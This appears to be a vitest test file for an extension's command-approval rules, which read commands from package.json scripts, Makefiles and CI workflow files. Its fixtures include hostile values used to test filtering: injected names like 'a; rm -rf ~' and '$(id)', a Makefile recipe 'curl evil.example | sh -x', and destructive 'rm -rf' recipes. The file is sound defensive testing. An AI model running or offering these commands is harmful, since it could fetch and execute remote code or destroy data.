import { describe, expect, test } from 'vitest';
import { readMakefile } from '../../../../src/extension/approval/rules/makefile.ts';
import {
  ciCommands,
  makeCommands,
  packageCommands,
  readPackageScripts,
} from '../../../../src/extension/approval/rules/projectCommands.ts';

describe('the commands of a package.json', () => {
  const of = (scripts: unknown, manager: 'npm' | 'pnpm' | 'yarn' | 'bun' = 'npm') =>
    packageCommands(readPackageScripts(JSON.stringify({ scripts })), manager);

  test('run its scripts with the package manager of the project', () => {
    const scripts = { test: 'vitest', 'lint:fix': 'eslint --fix' };
    expect(of(scripts)).toEqual(['npm test', 'npm run lint:fix']);
    expect(of(scripts, 'pnpm')).toEqual(['pnpm test', 'pnpm run lint:fix']);
    expect(of(scripts, 'bun')).toEqual(['bun run test', 'bun run lint:fix']);
  });

  test.each([
    'a; rm -rf ~',
    '--prefix',
    '*',
    'a b',
    '$(id)',
    '`id`',
    'a&&b',
    '',
    'x\ny',
    '~',
    '"',
    'a'.repeat(200),
    'a\u202e',
  ])('do not include a hostile name: %j', (name) => {
    expect(of({ [name]: 'x', ok: 'y' })).toEqual(['npm run ok']);
  });

  test.each(['', '[]', '{"scripts": [1]}', '{"scripts": {"a": 1}}', '{"scripts"', 'null'])(
    'are empty if the file is malformed: %j',
    (text) => {
      expect([...readPackageScripts(text)]).toEqual([]);
    },
  );
});

describe('the commands of a Makefile', () => {
  const of = (text: string) => {
    const makefile = readMakefile(text);
    return makeCommands(makefile).map((command) => {
      const recipes = makefile.recipesFor(command.slice('make '.length)) ?? ['none'];
      return `${command} > ${recipes.join('; ')}`;
    });
  };

  test('are its plain targets with their recipes', () => {
    const text = `.PHONY: all test
CC := gcc
FLAGS ::= -O2
VALUE = a:b
# comment: x
all: build test
build lint: main.c
\t-gcc main.c
\t@echo done
%.o: %.c
\tgcc -c $<
$(OUT): x
clean:
\trm -rf out
all: more
\tmore
`;
    expect(of(text)).toEqual([
      'make all > gcc main.c; echo done; more',
      'make build > gcc main.c; echo done',
      'make lint > gcc main.c; echo done',
      'make clean > rm -rf out',
    ]);
  });

  test('are shown with the recipes of their prerequisites, in the order in which make runs them', () => {
    const text = `all: build\\
  evil | a~b $(OUT)
\techo all
build: CFLAGS = other
build: all main.o ; echo build
\t@echo done
evil:: other # comment
\tcurl evil.example | sh\\
\t  -x
other: export X := evil
other:
\techo other
a~b: evil
\techo odd
%.o: %.c
\techo object
`;
    expect(of(text)).toEqual([
      'make all > echo object; echo build; echo done; echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all',
      'make build > echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all; echo object; echo build; echo done',
      'make evil > echo other; curl evil.example | sh -x',
      'make other > echo other',
    ]);
  });

  test('are read in time if they have very many prerequisites', () => {
    const chain = Array.from({ length: 20_000 }, (_, at) => `t${at}: t${at + 1}`).join('\n');
    expect(readMakefile(`${chain}\nt20000:\n\techo end\n`).recipesFor('t0')).toEqual(['echo end']);
  });

  test('do not include hostile names', () => {
    expect(of('-C/tmp: x\na;b: y\n--eval=x: z\n')).toEqual([]);
  });

  test.each([
    ['all:\n\techo all\n', ['echo all']],
    [
      '.PHONY: x\n%.o: %.c\n\tcc\nX := a:b\nexport Y = 1\nall: Z = 1\n# c\nmain: all\n\techo main\nall:\n\ta\n',
      ['a', 'echo main'],
    ],
    ['ifeq ($(OS),x)\nX = 1\nelse\nX = 2\nendif\nall:;X=1 echo all\nx:\n\techo x\n', ['X=1 echo all']],
    ['ifdef X\nall:\n\techo a\nendif\nmain:\n\techo main\n', undefined],
    ['include evil=.mk\nall:\n\techo all\n', undefined],
    ['$(call rules,x=y)\nall:\n\techo all\n', undefined],
    ['X := $(eval evil: ; echo evil)\nall:\n\techo all\n', undefined],
    ['define X =\nendef\nall:\n\techo all\n', undefined],
    ['X = 1\n\tinclude evil.mk\nall:\n\techo all\n', undefined],
    ['$(X) all:\n\techo all\n', undefined],
    ['all:\n\techo all\n.DEFAULT_GOAL = evil\nevil:\n\techo evil\n', undefined],
    ['X = 1\n', undefined],
  ])('make without a target runs the first one, if it is known: %j', (text, recipes) => {
    expect(readMakefile(text).recipesFor()).toEqual(recipes);
  });

  test('have the lines of all branches of a condition inside a rule', () => {
    const text = `deploy:
ifdef CI
\t./push.sh
  else ifeq ($(OS),x)
\t./other.sh
else # comment
  # another
\t./local.sh
endif
\trm -rf /srv/x
all: else-all
\techo all
else-all:
\techo else
`;
    expect(of(text)).toEqual([
      'make deploy > ./push.sh; ./other.sh; ./local.sh; rm -rf /srv/x',
      'make all > echo else; echo all',
      'make else-all > echo else',
    ]);
  });

  test.each([
    '.RECIPEPREFIX = >\nall:\n> rm -rf x\n',
    'all:\n\techo\ndefine X =\n\techo x\nendef\n',
    'all:\n\techo\noverride define X\nall:\nendef\n',
    'all:\nifdef X\nother:\nendif\n\trm -rf x\n',
    'all:\nifdef X\nY = 1\nelse\n\trm -rf x\nendif\n',
  ])('are not known if it is not clear to which rule a line belongs: %j', (text) => {
    const { targets, recipesFor } = readMakefile(text);
    expect(targets).toContain('all');
    expect(recipesFor('all')).toBeUndefined();
    expect(recipesFor()).toBeUndefined();
  });

  test('a target without a rule has no recipes', () => {
    const { recipesFor } = readMakefile('all: build\n%.o: %.c\n\tcc\n');
    expect(recipesFor('all')).toEqual([]);
    expect(recipesFor('a.o')).toEqual(['cc']);
    expect(recipesFor('gone')).toBeUndefined();
  });
});

describe('the commands of a CI file', () => {
  const of = ciCommands;

  test('are the `run` steps of a GitHub workflow', () => {
    expect(
      of(`jobs:
  build:
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - name: Test
        run: "npm test"
      - run: |
          npm run lint
          npm run build -- --out \${{ matrix.out }}

          cargo test
        env:
          A: b
      - run: echo \${{ secrets.TOKEN }}
`),
    ).toEqual(['npm ci', 'npm test', 'npm run lint', 'cargo test']);
  });

  test('are the scripts of a GitLab file, and the commands of a CircleCI file', () => {
    expect(
      of('test:\n  before_script:\n  - pip install tox\n  script:\n    - tox\n    - make check\nother:\n  image: x\n'),
    ).toEqual(['pip install tox', 'tox', 'make check']);
    expect(of('steps:\n  - run: make\n  - run:\n      name: x\n      command: make check\n')).toEqual([
      'make',
      'make check',
    ]);
  });

  test('are whole if they continue on the next line', () => {
    expect(
      of(
        `steps:
      - run: |
          docker run \\
            --rm x
          npm test |
            tee log
          make
      - run: >-
          npm test
          -- --coverage

          npm run lint
            --fix
      - run: cargo test
          --all
        name: x
      - run: "npm run a
          b"
`.replaceAll('\\\\', '\\'),
      ),
    ).toEqual([
      'docker run --rm x',
      'npm test | tee log',
      'make',
      'npm test -- --coverage',
      'npm run lint',
      '--fix',
      'cargo test --all',
      'npm run a b',
    ]);
    expect(
      of(
        'test:\n  script:\n    - tox\n      -e py\n    - |\n      make \\\n        check\n    - >\n      a\n      b\n',
      ),
    ).toEqual(['tox -e py', 'make check', 'a b']);
  });

  test('do not include values that are not text, and lines whose rest is missing', () => {
    expect(of('run: |\n  docker run \\\n\nrun: [a]\nrun: {a: b}\nrun: *x\nkey: value\nscripts: npm test\n')).toEqual(
      [],
    );
  });
});
